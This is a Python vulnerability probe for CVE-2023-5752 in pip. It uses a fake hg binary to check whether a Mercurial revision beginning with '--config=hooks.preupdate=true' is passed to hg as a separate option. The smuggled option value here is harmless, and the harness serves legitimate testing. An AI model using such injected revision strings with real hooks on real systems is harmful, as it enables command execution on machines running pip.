# /// vertice-probe
# id = "PYSEC-2023-228"
# aliases = ["CVE-2023-5752"]
# package = "pip"
# summary = "The revision of a Mercurial URL becomes an argument of its own, so it can give hg configuration."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:N/I:L/A:N" }]
# cwe = ["CWE-77"]
# kind = "argument-injection"
# symbols = ["pip", "pip._internal.vcs.mercurial.Mercurial"]
#
# [[affected]]
# package = "pip"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "23.3" }] }]
#
# [cases]
# attack = "pip download of an hg URL whose revision starts with --config gives hg that option"
# [cases.variants]
# editable = "the same while an editable checkout that exists is updated"
# [cases.controls]
# revision = "an ordinary revision reaches hg"
#
# [test]
# vulnerable = "23.2.1"
# fixed = "23.3"
# ///
"""CVE-2023-5752: options for hg in the revision of a requirement."""

import contextlib
import io
import json
import os
import runpy
import stat
import sys
import tempfile
import warnings

warnings.simplefilter("ignore")
BASE = tempfile.mkdtemp()
LOG = os.path.join(BASE, "log")
REPOSITORY = "http://127.0.0.1:9/repo"  # never reached: hg is a stand-in
OPTION = "--config=hooks.preupdate=true"
HG = """#!/bin/sh
{ echo ">"; for word in "$@"; do printf '%%s\\n' "$word"; done; } >> '%s'
case "$1" in
  clone) for last; do :; done; mkdir -p "$last/.hg" ;;
  showconfig) echo '%s' ;;
  parents) echo 0123456789012345678901234567890123456789 ;;
esac
"""


def pip(*arguments):
    """(argument lists hg was called with, pip's words)."""
    tool = os.path.join(BASE, "bin", "hg")
    os.mkdir(os.path.dirname(tool))
    with open(tool, "w") as out:
        out.write(HG % (LOG, REPOSITORY))
    os.chmod(tool, stat.S_IRWXU)
    os.environ.update(
        PATH=os.path.dirname(tool) + os.pathsep + os.environ.get("PATH", "/usr/bin:/bin"),
        HOME=BASE,
        TMPDIR=BASE,
        PIP_CONFIG_FILE=os.devnull,
    )
    tempfile.tempdir = None
    common = ["--isolated", "--disable-pip-version-check", "--no-cache-dir", "--no-deps", "--no-index"]
    sys.argv = ["pip", arguments[0]] + common + list(arguments[1:])
    words = io.StringIO()
    with contextlib.redirect_stdout(words), contextlib.redirect_stderr(words):
        try:
            runpy.run_module("pip", run_name="__main__", alter_sys=True)
        except SystemExit:  # the checkout is empty, so pip ends with an error after hg has done its part
            pass
    if not os.path.exists(LOG):
        raise RuntimeError("hg was not called: %s" % words.getvalue()[-300:])
    with open(LOG) as log:
        return [call.split() for call in ("\n" + log.read()).split("\n>")[1:]], words.getvalue()


def updates(calls):
    return [call for call in calls if call and call[0] == "update"]


def look(calls):
    for call in updates(calls):
        if OPTION in call:
            return "exploited", "hg update got %s as an option of its own" % OPTION
        for word in call:
            if word.endswith("=" + OPTION) and word.startswith(("-r=", "--rev=")):
                return "blocked", "hg update got the revision as one argument, %s" % word
    return "error", "hg update was not called with the revision: %r" % calls


def download(revision):
    calls, _ = pip("download", "-d", BASE, "shop-x @ hg+%s@%s" % (REPOSITORY, revision))
    return calls


def attack():
    return look(download(OPTION))


def editable():
    os.makedirs(os.path.join(BASE, "src", "shop-x", ".hg"))
    calls, _ = pip(
        "install",
        "--target",
        os.path.join(BASE, "target"),
        "--src",
        os.path.join(BASE, "src"),
        "-e",
        "hg+%s@%s#egg=shop-x" % (REPOSITORY, OPTION),
    )
    if not any(call[:1] == ["pull"] for call in calls):
        return "error", "the checkout was not updated: %r" % calls
    return look(calls)


def revision():
    calls = updates(download("1.0"))
    words = [word for call in calls for word in call]
    good = len(calls) == 1 and ("1.0" in words or "-r=1.0" in words or "--rev=1.0" in words)
    return ("works", "hg update got revision 1.0") if good else ("broken", repr(calls))


CASES = {"attack": attack, "editable": editable, "revision": revision}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
